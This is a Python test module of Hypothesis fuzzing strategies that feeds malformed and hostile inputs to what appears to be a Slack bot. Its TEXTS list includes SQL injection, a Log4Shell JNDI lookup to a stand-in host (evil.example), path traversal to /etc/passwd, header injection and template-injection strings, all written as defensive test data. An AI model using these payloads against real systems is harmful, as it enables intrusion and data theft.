"""Evil values: texts, numbers and JSON that should not be where they are. Nothing here is random."""

from __future__ import annotations

from typing import Any, TypeVar

from hypothesis import strategies as st

T = TypeVar("T")

BAIT = "U0BAITBAIT0"
"""A user id that nobody has: a mention of it can only come from untrusted words."""

TEXTS = (
    "",
    " ",
    "too expensive next to Rivalsoft #pricing @Globex $40k",
    "<!channel>",
    "hey <!here|here> and <!everyone> look",
    "<!subteam^S0BAIT>",
    f"<@{BAIT}>",
    f"please ask <@{BAIT}|mia> #<!channel> @<!here>",
    "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "<!channel",
    "<<!channel>>",
    "@channel @here @everyone",
    "<https://evil.example|your bank>",
    "<javascript:alert(1)|click>",
    "*bold* _it_ ~no~ `code` ```block```",
    "> quote\n> more\n\n\n# head",
    "\u202eevil txt\u202c \u2066iso",
    "שלום עולם <!channel> #מחיר",
    "مرحبا بالعالم 40k$",
    "\0",
    "a\0b",
    "\ud800",
    "half \udc00 pair \ud83d",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40,
    "Z\u0351\u036b\u0343" * 200,
    "\u200b\u2060\ufeff",
    "\x1b[31mred\x07",
    "x" * 3001,
    "x" * 12_001,
    "w " * 20_000,
    "#" * 500,
    "#a " * 300,
    "@" * 500,
    "$" + "9" * 400,
    "$1e309",
    "$-5",
    "€1.000.000.000.000,99",
    "-1",
    "0",
    "1",
    "2147483648",
    "9223372036854775808",
    "9" * 500,
    "1e400",
    "NaN",
    "²",
    "١٢٣",
    "0x10",
    "true",
    "null",
    "{}",
    "[]",
    '{"command": "/tandem"}',
    "payload={}",
    "'; DROP TABLE leads; --",
    '" OR 1=1 --',
    "%s %n %d {0} {self.secret}",
    "{{ 7 * 7 }} {% include 'x' %}",
    "../../../etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "a\r\nX-Evil: yes\r\n\r\n",
    "line\u2028separator\u2029here\x85",
    "/tandem setup",
    "help",
    "list",
    "find <!channel>",
    "show \0",
    "add <!here>",
    "edit <!channel>",
    "until 2026-13-45",
    "9999w",
    "9999-12-31",
    "0001-01-01",
    "99999999999999999999d",
    "Etc/../etc/passwd",
    "America/Nowhere",
    "25:99",
    "mon-fri 09:00-18:00",
    "mon-xyz 99:00",
    "-",
    "=1",
    "=99999999999999999999",
    "C0NOWHERE00",
    "USLACKBOT",
    "99999999999999999999:undo",
    "1:list",
    "1:undo",
    "team:1",
    "team:²",
    "team:0",
    "sources",
    "policies",
)

NUMBERS: tuple[Any, ...] = (0, 1, -1, 7, 2**31, 2**53, 2**63 - 1, 2**63, 2**64, 10**300, 0.5, -0.0, 1e308, float("nan"))

DEEP = "{{deep:%d}}"
"""Becomes so many nested lists when the request is made: no Python value could be written that deep."""

VALUES: tuple[Any, ...] = (
    None,
    True,
    False,
    *NUMBERS,
    [],
    {},
    [[]],
    [None],
    [{}],
    {"": ""},
    {"id": None},
    {"id": {"id": []}},
    {"id": "U0NOBODY000", "team_id": "T0ELSEWHERE"},
    {"value": {"value": "x"}},
    {"selected_option": "x"},
    {"selected_option": {"value": ["x"]}},
    {"a\0b": "\0"},
    {"\ud800": "\udfff"},
    ["x"] * 500,
    {f"key{number}": number for number in range(500)},
    DEEP % 40,
    DEEP % 900,
    DEEP % 50_000,
)


def mostly(often: st.SearchStrategy[T], seldom: st.SearchStrategy[T], times: int) -> st.SearchStrategy[T]:
    """The one `times` times as often as the other. (`one_of` counts a strategy once, however often it is named.)"""
    return st.sampled_from([often] * times + [seldom]).flatmap(lambda one: one)


def texts() -> st.SearchStrategy[str]:
    """Mostly known evils, alone or two together; sometimes whatever Hypothesis makes, lone surrogates included."""
    known = st.sampled_from(TEXTS)
    free = st.text(st.characters(codec=None), max_size=40)
    return mostly(known, st.one_of(free, st.tuples(known, known).map(" ".join)), 4)


def values() -> st.SearchStrategy[Any]:
    """Any JSON in any place."""
    return st.one_of(texts(), st.sampled_from(VALUES), st.integers(), st.floats())
